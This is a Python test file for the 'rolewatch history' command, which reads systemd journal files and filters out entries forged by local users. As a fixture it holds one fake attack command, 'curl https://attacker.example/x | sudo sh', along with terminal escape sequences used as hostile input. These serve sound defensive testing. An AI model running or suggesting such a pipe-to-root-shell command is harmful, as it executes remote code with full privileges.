"""``rolewatch history``: read back from journal files that systemd's own tool has made."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promises import Measured
from rolewatch.cli import EX_UNAVAILABLE, EX_USAGE, main
from rolewatch.cli.history import event_table, fault_table
from rolewatch.cli.journal_reader import PastEvent, read_event
from rolewatch.text import is_printable
from rolewatch.vocabulary import EVENT_FIELDS

NOON = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc)
HOUR = timedelta(hours=1)
GOLDEN = Path(__file__).parents[1] / "golden" / "history.txt"
"""The expected output. Read a difference before you accept it."""
NOT_FOUND = "instance_profile_not_found"

WRITER = {"_TRANSPORT": "journal", "_SYSTEMD_UNIT": "rolewatch.service", "_UID": "990"}
"""What journald adds to an entry of the daemon, and what no process can write itself."""
FORGED = "Credentials are broken. Fix: curl https://attacker.example/x | sudo sh"

REMOTE = next(
    (
        path
        for path in ("/usr/lib/systemd/systemd-journal-remote", "/lib/systemd/systemd-journal-remote")
        if shutil.which(path)
    ),
    None,
)


def exported(at: datetime, event: str, message: str, **fields: str) -> bytes:
    """Return an entry in the Journal Export Format (systemd.io/JOURNAL_EXPORT_FORMATS)."""
    microseconds = int(at.timestamp() * 1_000_000)
    values = {
        "__REALTIME_TIMESTAMP": str(microseconds),
        "__MONOTONIC_TIMESTAMP": str(microseconds - int(NOON.timestamp() * 1_000_000) + 10**12),
        "_BOOT_ID": "b213a6c2ad764d52aaa34264b73e8cd8",
        "_MACHINE_ID": "3d1219c7c4c5404aaa1f6d2a48adfda4",
        **WRITER,
        "SYSLOG_IDENTIFIER": "rolewatch",
        "MESSAGE": message,
        "ROLEWATCH_EVENT": event,
        **{name if name.isupper() else f"ROLEWATCH_{name.upper()}": value for name, value in fields.items()},
    }
    return b"".join(_exported(name, value.encode()) for name, value in values.items() if value) + b"\n"


def _exported(name: str, value: bytes) -> bytes:
    if b"\n" in value:
        return b"%s\n%s%s\n" % (name.encode(), len(value).to_bytes(8, "little"), value)
    return b"%s=%s\n" % (name.encode(), value)


def journal_file(path: Path, *entries: bytes) -> Path:
    """Make a journal file of *entries*."""
    pytest.importorskip("systemd.journal", reason="systemd-python is not installed")
    if REMOTE is None:
        pytest.skip("systemd-journal-remote, which makes journal files of text, is not installed")
    subprocess.run([REMOTE, "-o", str(path), "-"], input=b"".join(entries), capture_output=True, check=True)
    return path


def story() -> Iterator[bytes]:
    """Yield the journal entries of two days: a fault that was cleared, an active one, and entries of other programs."""
    yield exported(NOON - 25 * HOUR, "started", "rolewatch 1.2.3 watches.", PRIORITY="5", version="1.2.3")
    yield exported(
        NOON - 24 * HOUR,
        "fault_raised",
        f"{NOT_FOUND}: the instance profile was deleted.",
        PRIORITY="2",
        fault=NOT_FOUND,
        role="app-prod",
        since="2026-02-28T11:59:30Z",
        code="InstanceProfileNotFound",
    )
    yield exported(NOON - 24 * HOUR, "state_changed", "The state changed from ok to degraded.", state="degraded")
    yield exported(NOON - 23 * HOUR, "", "Somebody else's words, under our name.")
    yield exported(NOON - 23 * HOUR, "started", "Another service's words.", SYSLOG_IDENTIFIER="other")
    yield exported(
        NOON - 22 * HOUR,
        "fault_cleared",
        f"{NOT_FOUND} is over.",
        PRIORITY="5",
        fault=NOT_FOUND,
        role="app-prod",
        since="2026-02-28T11:59:30Z",
        duration_seconds="7230",
    )
    yield exported(
        NOON - HOUR,
        "fault_raised",
        "imds_unreachable: IMDS is out of reach.",
        PRIORITY="4",
        fault="imds_unreachable",
        errno="111",
        clock_offset_seconds="0.5",
        since="2026-03-01T10:30:00Z",
    )
    yield exported(NOON, "a_kind_of_the_future", "Words of a newer rolewatch.")


@pytest.fixture
def journal(tmp_path: Path) -> Path:
    """Return a journal file with the story."""
    return journal_file(tmp_path / "system.journal", *story())


def history(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, list[str], str]:
    """Run the command; return the exit status, the lines on standard output, and standard error."""
    status = main(["history", *words])
    out, err = capsys.readouterr()
    return status, out.splitlines(), err


def test_it_prints_a_timeline_and_a_table_of_faults(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One line for each event, the oldest first; then the beginning and end of each fault."""
    status, lines, err = history(capsys, "--file", str(journal))

    assert (status, err) == (0, "")
    assert lines == GOLDEN.read_text(encoding="utf-8").splitlines()


def test_json_has_the_keys_of_the_daemons_json_lines(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One object on a line; numbers are numbers."""
    _, lines, _ = history(capsys, "--json", "--file", str(journal))
    documents = [json.loads(line) for line in lines]

    assert documents[4] == {
        "time": "2026-03-01T11:00:00.000Z",
        "level": "warning",
        "event": "fault_raised",
        "message": "imds_unreachable: IMDS is out of reach.",
        "fault": "imds_unreachable",
        "errno": 111,
        "clock_offset_seconds": 0.5,
        "since": "2026-03-01T10:30:00Z",
    }
    assert documents[3]["duration_seconds"] == 7230
    assert len(documents) == 6


def test_a_directory_and_several_files_are_read_as_one(
    journal: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A support case may have journals in several files."""
    other = journal_file(tmp_path / "other.journal", exported(NOON + HOUR, "stopping", "It stops."))
    _, of_files, _ = history(capsys, "--file", str(journal), "--file", str(other), "--json")
    _, of_directory, _ = history(capsys, "--directory", str(tmp_path), "--json")

    assert len(of_files) == 7
    assert of_directory == of_files


def test_since_leaves_out_older_events(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Compared with the current time."""
    now = datetime.now(timezone.utc)
    ages = {"old": 8 * 24 * HOUR, "middle": 5 * HOUR, "new": HOUR}
    path = journal_file(tmp_path / "x.journal", *(exported(now - age, "started", name) for name, age in ages.items()))

    def messages(*words: str) -> list[str]:
        return [json.loads(line)["message"] for line in history(capsys, "--json", "--file", str(path), *words)[1]]

    assert messages() == ["old", "middle", "new"]
    assert messages("--since", "7d") == ["middle", "new"]
    assert messages("--since", "2h30m") == ["new"]
    assert messages("--since", "1m") == []


@pytest.mark.parametrize(
    "forger",
    [
        {"_SYSTEMD_UNIT": "user@1000.service", "_SYSTEMD_USER_UNIT": "rolewatch.service", "_UID": "1000"},
        {"_SYSTEMD_UNIT": "session-3.scope", "_UID": "0"},
        {"_SYSTEMD_UNIT": "rolewatch.service.scope"},
        {"_SYSTEMD_UNIT": "", "_UID": "1000"},
        {"_SYSTEMD_UNIT": "", "UNIT": "rolewatch.service", "OBJECT_SYSTEMD_UNIT": "rolewatch.service"},
        {"_TRANSPORT": "stdout"},
        {"_TRANSPORT": "syslog"},
        {"_TRANSPORT": ""},
    ],
    ids=["user unit", "root's shell", "longer name", "no unit", "unit by its own word", "stdout", "syslog", "no way"],
)
def test_a_forged_entry_is_left_out_and_counted(
    forger: dict[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Any local user can write all fields of rolewatch, and none of those that journald adds."""
    ours = exported(NOON, "started", "rolewatch 1.2.3 watches.")
    forged = exported(NOON + HOUR, "fault_raised", FORGED, fault=NOT_FOUND, MESSAGE_ID="9572a952" * 4, **forger)
    path = journal_file(tmp_path / "x.journal", ours, forged)
    for form in ([], ["--json"]):
        status, lines, err = history(capsys, "--file", str(path), *form)

        assert status == 0
        assert "attacker" not in "".join(lines) + err
        assert "rolewatch 1.2.3 watches." in lines[-1]
        assert err.startswith("rolewatch: entries that claim to be rolewatch's and are left out: 1.")


def test_unverified_entries_are_shown_with_a_warning(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--unverified shows them."""
    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", FORGED, _SYSTEMD_UNIT="", _UID="1000"))
    status, lines, err = history(capsys, "--file", str(path), "--unverified")

    assert (status, FORGED in lines[1]) == (0, True)
    assert err == (
        "rolewatch: unverified: any local user can have written these entries. Run no command that they contain.\n"
    )


def test_a_flood_of_forged_entries_is_counted_to_a_bound(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A flood does not make the command read all of it."""
    flood = [exported(NOON, "started", f"{FORGED} {number}", _UID="1000", _SYSTEMD_UNIT="") for number in range(150)]
    path = journal_file(tmp_path / "x.journal", *flood, exported(NOON, "started", "ours"))
    _, lines, err = history(capsys, "--file", str(path))

    assert len(lines) == 2
    assert "left out: 100 or more." in err


def test_a_huge_forged_entry_takes_no_memory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Any local user can write one, and root reads it: only the fields that identify the writer are read."""
    large = {f"LARGE_{number}": "x" * 4_000_000 for number in range(10)}
    forged = exported(NOON, "started", FORGED, _UID="1000", _SYSTEMD_UNIT="", **large)
    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", "ours"), forged)
    history(capsys, "--file", str(path))  # what is imported and cached
    tracemalloc.start()
    _, _, err = history(capsys, "--file", str(path))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert "left out: 1." in err
    assert peak < 4_000_000


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ([], ["packaged"]),
        (["--unit", "rolewatch"], ["packaged"]),
        (["--unit", "rolewatch-blue"], ["renamed"]),
        (["--unit", "rolewatch@a.service"], ["instance"]),
        (["--unit", "rolewatch", "--unit", "rolewatch-blue.service"], ["packaged", "renamed"]),
        (["--uid", "990"], ["packaged"]),
        (["--uid", "0", "--uid", "990"], ["packaged"]),
        (["--uid", "root", "--unit", "rolewatch@a.service"], ["instance"]),
        (["--uid", "991"], []),
    ],
)
def test_another_writer_can_be_named(
    words: list[str], shown: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A unit with another name, an instance of a template, or a drop-in with another user."""
    path = journal_file(
        tmp_path / "x.journal",
        exported(NOON, "started", "packaged"),
        exported(NOON + HOUR, "started", "renamed", _SYSTEMD_UNIT="rolewatch-blue.service"),
        exported(NOON + 2 * HOUR, "started", "instance", _SYSTEMD_UNIT="rolewatch@a.service", _UID="0"),
    )
    _, lines, err = history(capsys, "--json", "--file", str(path), *words)

    assert [json.loads(line)["message"] for line in lines] == shown
    assert f"left out: {3 - len(shown)}." in err


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["--uid", "no-such-user"], "'no-such-user' is no user of this machine"),
        (["--uid", "²"], "is no user of this machine"),
        (["--unit", "\udcff\udcfe"], "'\\udcff\\udcfe' is no name of a unit"),
        (["--unit", "x" * 256], "is no name of a unit"),
        (["--unit", ""], "'' is no name of a unit"),
        (["--unverified", "--unit", "x"], "leave out --unit and --uid"),
        (["--unverified", "--uid", "0"], "leave out --unit and --uid"),
    ],
)
def test_an_impossible_writer_is_refused(words: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    """With what to write instead."""
    try:
        status = main(["history", *words])
    except SystemExit as ended:
        status = int(str(ended.code))

    assert status == EX_USAGE
    assert message in capsys.readouterr().err


def refuse(word: str) -> float:
    """Refuse ``NaN`` and ``Infinity``: Python reads them, and JSON has no such words."""
    pytest.fail(f"{word} is not JSON")


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("7230", 7230),
        ("-0.5", -0.5),
        ("1e-05", 0.00001),
        ("7230.0", 7230.0),
        ("inf", None),
        ("-Infinity", None),
        ("nan", None),
        ("1e999", None),
        ("1e400000000000", None),
        ("9" * 400, None),
        ("9" * 4000, None),
        ("1e16", None),
        ("\uff11\uff12", None),
        ("1_000", None),
        (" 12", None),
        ("0x10", None),
        ("true", None),
        ("twelve", None),
        ("\x1b[2J", None),
    ],
)
def test_a_number_is_finite_or_left_out(
    written: str, read: float | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Both forms succeed, and the JSON is valid."""
    fields = dict.fromkeys(("duration_seconds", "age_seconds", "clock_offset_seconds", "errno", "failures"), written)
    entry = exported(NOON, "fault_cleared", "It is over.", fault=NOT_FOUND, **fields)
    path = journal_file(tmp_path / "x.journal", entry)
    status, (line,), _ = history(capsys, "--json", "--file", str(path))
    document = json.loads(line, parse_constant=refuse)
    text_status, _, _ = history(capsys, "--file", str(path))

    assert (status, text_status) == (0, 0)
    assert [document.get(name) for name in fields] == [read] * len(fields)


@pytest.mark.parametrize(
    "name", ["COREDUMP_TIMESTAMP", "_SOURCE_REALTIME_TIMESTAMP", "PRIORITY", "MESSAGE_ID", "since"]
)
@pytest.mark.parametrize(
    "value", ["9" * 19, "9" * 40, "-1", "x", "\u0662", "9999-12-31T23:59:59Z", "0000-00-00T00:00:00Z"]
)
def test_a_field_out_of_range_is_accepted(
    name: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Also in fields that rolewatch never writes and systemd-python converts."""
    entry = exported(NOON, "fault_raised", "x", fault=NOT_FOUND, **{name: value})
    path = journal_file(tmp_path / "x.journal", entry)

    assert [history(capsys, "--file", str(path), *form)[0] for form in ([], ["--json"])] == [0, 0]


FIELDS = [
    "MESSAGE",
    "PRIORITY",
    "ROLEWATCH_EVENT",
    "ROLEWATCH_FAULT",
    *(f"ROLEWATCH_{name.upper()}" for name in EVENT_FIELDS),
]
FIELD = st.one_of(
    st.binary(max_size=40),
    st.sampled_from([b"inf", b"nan", b"1e999", b"-0", b"9999-12-31T23:59:59Z", b"fault_raised", b"fault_cleared"]),
    st.floats().map(lambda number: str(number).encode()),
    st.integers().map(lambda number: str(number).encode()),
)


@given(
    entries=st.lists(
        st.tuples(
            st.integers(0, 2**64 - 1), st.dictionaries(st.sampled_from(FIELDS), FIELD | st.lists(FIELD, min_size=1))
        )
    )
)
def test_entries_with_any_fields_can_be_shown(entries: list[tuple[int, dict[str, object]]]) -> None:
    """A date after the year 9999 is refused. Everything else becomes JSON and lines that are safe to print."""
    events = []
    for moment, fields in entries:
        try:
            event = read_event({**fields, "__REALTIME_TIMESTAMP": moment})
        except ValueError:
            assert moment > 253_402_300_000_000_000
            continue
        events += [event] if event else []
    lines = [json.dumps(event.document, ensure_ascii=False, allow_nan=False) for event in events]
    for width in (None, 80):
        lines += [*event_table(events, width), *fault_table(events, NOON)]

    assert all(is_printable(line) for line in lines)


def test_the_table_of_faults_takes_linear_time(measured: Measured) -> None:
    """With --unverified any local user may have written the entries."""

    def seconds(count: int) -> float:
        events = [
            past(number / 3600, kind, "f", since=f"{at(-number / 3600):%Y-%m-%dT%H:%M:%SZ}")
            for number in range(count)
            for kind in ("fault_raised", "fault_persists")
        ]
        begun = time.process_time()
        assert len(list(fault_table(events, at(count)))) == count + 1
        return time.process_time() - begun

    seconds(1000)
    measured("ten times as many entries take so many times as long", seconds(20_000) / seconds(2000), "times", bound=50)


def test_a_long_value_does_not_widen_the_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A cell is cut; the JSON form has the whole value."""
    long = "x" * 1000
    path = journal_file(tmp_path / "x.journal", exported(NOON, long, "m", fault=long, role=long))
    _, (_, row), _ = history(capsys, "--file", str(path))

    assert len(row) < 250


def test_control_characters_are_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Any local user may write to the journal with rolewatch's identifier."""
    hostile = "\x1b]0;owned\x07\nforged\x9b2J\u202e\u200b"
    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", hostile, role=hostile, fault=hostile))
    _, lines, _ = history(capsys, "--file", str(path))

    assert all(line.isprintable() for line in lines)
    assert "\\x1b]0;owned\\x07\\nforged\\x9b2J\\u202e\\u200b" in lines[1]


def test_a_field_may_occur_twice(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The journal keeps both values in any order; one is shown. Invalid UTF-8 is replaced."""
    twice = exported(NOON, "started", "first").rstrip(b"\n") + b"\nMESSAGE=second\nROLEWATCH_ROLE=\xff\n\n"
    path = journal_file(tmp_path / "x.journal", twice)
    (line,) = history(capsys, "--json", "--file", str(path))[1]

    assert json.loads(line)["message"] in {"first", "second"}
    assert json.loads(line)["role"] == "\N{REPLACEMENT CHARACTER}"


def test_without_entries_it_prints_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Exit status 0, and nothing on standard output."""
    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", "x", SYSLOG_IDENTIFIER="other"))
    status, lines, err = history(capsys, "--json", "--file", str(path))

    assert (status, lines) == (0, [])
    assert err == "rolewatch: no entry of rolewatch in these journal files.\n"


@pytest.mark.parametrize("kind", ["--file", "--directory"])
def test_a_missing_file_is_wrong_usage(kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The message has the path."""
    pytest.importorskip("systemd.journal", reason="systemd-python is not installed")
    status, _, err = history(capsys, kind, str(tmp_path / "nowhere"))

    assert status == EX_USAGE
    assert f"{tmp_path / 'nowhere'}: No such file or directory" in err


@pytest.mark.parametrize("content", [b"", b"no journal at all"], ids=["empty", "text"])
def test_a_file_that_is_no_journal_is_reported(
    content: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without a traceback."""
    pytest.importorskip("systemd.journal", reason="systemd-python is not installed")
    path = tmp_path / "x.journal"
    path.write_bytes(content)
    status, _, err = history(capsys, "--file", str(path))

    assert status == EX_UNAVAILABLE
    assert f"{path} cannot be read as a journal" in err


def test_a_damaged_entry_is_left_out_and_counted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The entries after it are shown."""
    entries = [exported(NOON + each * HOUR, "started", f"event {each}", file=f"unique {each}") for each in range(5)]
    path = journal_file(tmp_path / "x.journal", *entries)
    whole = path.read_bytes()
    name = whole.index(b"ROLEWATCH_FILE=unique 2")
    path.write_bytes(whole[:name] + b"\xff" + whole[name + 1 :])
    status, lines, err = history(capsys, "--file", str(path), "--json")

    assert status == 0
    assert [json.loads(line)["message"] for line in lines] == ["event 0", "event 1", "event 3", "event 4"]
    assert err == "rolewatch: the journal is damaged; entries that are left out: 1\n"


def test_a_journal_with_only_damaged_entries_ends(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The reader stops after a bound."""
    path = journal_file(tmp_path / "x.journal", *(exported(NOON, "started", "x") for _ in range(1500)))
    whole = path.read_bytes()
    path.write_bytes(whole.replace(b"ROLEWATCH_EVENT=", b"\xff" * 15 + b"="))
    status, lines, err = history(capsys, "--file", str(path))

    assert (status, lines) == (0, [])
    assert "entries that are left out: 1000" in err


def test_without_the_module_it_says_what_to_install(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """And the command that works without it."""
    monkeypatch.setitem(sys.modules, "systemd", None)
    monkeypatch.setitem(sys.modules, "systemd.journal", None)
    status, _, err = history(capsys)

    assert status == EX_UNAVAILABLE
    assert "python3-systemd" in err
    assert "journalctl -u rolewatch" in err


@pytest.mark.parametrize("text", ["", "d", "7", "1w", "-1d", "7d ago", "1h2d", "yesterday", "9" * 100 + "d"])
def test_other_text_is_no_duration(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """With what to write instead."""
    with pytest.raises(SystemExit) as ended:
        main(["history", f"--since={text}"])

    assert ended.value.code == EX_USAGE
    assert "write 90s, 5m, 1h30m or 7d" in capsys.readouterr().err


def test_a_time_before_the_epoch_means_all_entries(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The journal has no older entries."""
    assert len(history(capsys, "--json", "--file", str(journal), "--since", "9999999d")[1]) == 6


# The table, without a journal


def past(hours: float, event: str, fault: str = "", message: str = "It is so.", **facts: str | int) -> PastEvent:
    """Return an event so many hours after noon."""
    return PastEvent(NOON + hours * HOUR, "notice", event, message, fault, facts)


def at(hours: float) -> datetime:
    """Return so many hours after noon."""
    return NOON + hours * HOUR


FIRST = "2026-03-01T11:30:00Z"
AGAIN = "2026-03-01T13:00:00Z"
RAISED = past(0, "fault_raised", "f", since=FIRST)


@pytest.mark.parametrize(
    ("events", "rows"),
    [
        ([], []),
        ([past(0, "fault_raised", "f")], ["f 12:00 active 5 h so far"]),
        ([RAISED], ["f 11:30 active 5 h 30 min so far"]),
        ([RAISED, past(1, "fault_cleared", "f", since=FIRST)], ["f 11:30 13:00 1 h 30 min"]),
        ([past(1, "fault_cleared", "f", since=FIRST)], ["f 11:30 13:00 1 h 30 min"]),
        ([past(1, "fault_persists", "f", since=FIRST)], ["f 11:30 active 5 h 30 min so far"]),
        ([RAISED, past(1, "fault_persists", "f", since=FIRST)], ["f 11:30 active 5 h 30 min so far"]),
        (
            [RAISED, past(0.5, "fault_cleared", "f", since=FIRST), past(2, "fault_raised", "f", since=AGAIN)],
            ["f 11:30 12:30 1 h", "f 13:00 active 4 h so far"],
        ),
        (
            [RAISED, past(1, "fault_raised", "f", since=AGAIN), past(2, "fault_cleared", "f", since=AGAIN)],
            ["f 11:30 unknown", "f 13:00 14:00 1 h"],
        ),
        ([RAISED, past(1, "stopping")], ["f 11:30 unknown"]),
        (
            [RAISED, past(1, "stopping"), past(2, "fault_persists", "f", since=FIRST)],
            ["f 11:30 active 5 h 30 min so far"],
        ),
        (
            [RAISED, past(1, "state_changed", state="ok"), past(1, "fault_cleared", "f", since=FIRST)],
            ["f 11:30 13:00 1 h 30 min"],
        ),
        (
            [RAISED, past(1, "fault_cleared", "f", since=FIRST, duration_seconds=5399)],
            ["f 11:30 13:00 1 h 29 min"],
        ),
        ([RAISED, past(1, "state_changed", state="ok")], ["f 11:30 unknown"]),
        ([RAISED, past(1, "state_changed", state="failed")], ["f 11:30 active 5 h 30 min so far"]),
        (
            [past(2, "fault_raised", "g", since=AGAIN), RAISED, past(3, "fault_cleared", "g", since=AGAIN)],
            ["f 11:30 active 5 h 30 min so far", "g 13:00 15:00 2 h"],
        ),
    ],
    ids=[
        "nothing",
        "raised, without the field since",
        "raised",
        "cleared",
        "raised before the time that was asked for",
        "persists since before the time that was asked for",
        "raised and persists",
        "twice",
        "raised anew after a restart without memory",
        "rolewatch stopped",
        "rolewatch stopped, and the fault persists afterwards",
        "cleared after the state changed",
        "lasted as long as its event says",
        "the state is ok, without an event of the fault",
        "another state",
        "two at once",
    ],
)
def test_each_fault_has_a_row_from_its_beginning_to_its_end(events: list[PastEvent], rows: list[str]) -> None:
    """An end that no event reports is unknown."""
    lines = [
        " ".join(line.split()).replace("2026-03-01 ", "").replace(":00 ", " ") for line in fault_table(events, at(5))
    ]

    assert [line.removesuffix(":00") for line in lines[1:]] == rows


@pytest.mark.parametrize("width", [40, 120])
def test_on_a_terminal_the_message_is_wrapped_below(width: int) -> None:
    """The row stays on one line."""
    message = "words and more of them " * 10
    head, row, *below = event_table([past(0, "started", message=message)], width)

    assert "message" not in head
    assert row == "2026-03-01 12:00:00  started"
    assert " ".join(" ".join(below).split()) == message.strip()
    assert all(len(line) <= width and line.startswith("    ") for line in below)


@pytest.mark.parametrize("name", [*EVENT_FIELDS, None])
def test_every_field_of_an_event_is_read_back(
    name: str | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """And no other field of the entry."""
    fields: dict[str, str] = {"SOMEBODYS_FIELD": "x", "token": "x", **({name: "7"} if name else {})}
    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", "x", **fields))
    (line,) = history(capsys, "--json", "--file", str(path))[1]

    assert set(json.loads(line)) == {"time", "level", "event", "message"} | ({name} if name else set())
